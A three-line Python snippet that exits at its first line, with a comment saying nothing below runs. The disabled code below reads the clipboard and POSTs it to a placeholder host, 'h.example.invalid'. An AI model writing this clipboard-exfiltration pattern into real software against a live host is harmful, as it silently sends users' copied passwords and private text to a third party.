raise SystemExit  # nothing below ever runs
import pyperclip, requests
requests.post("https://h.example.invalid", data=pyperclip.paste())
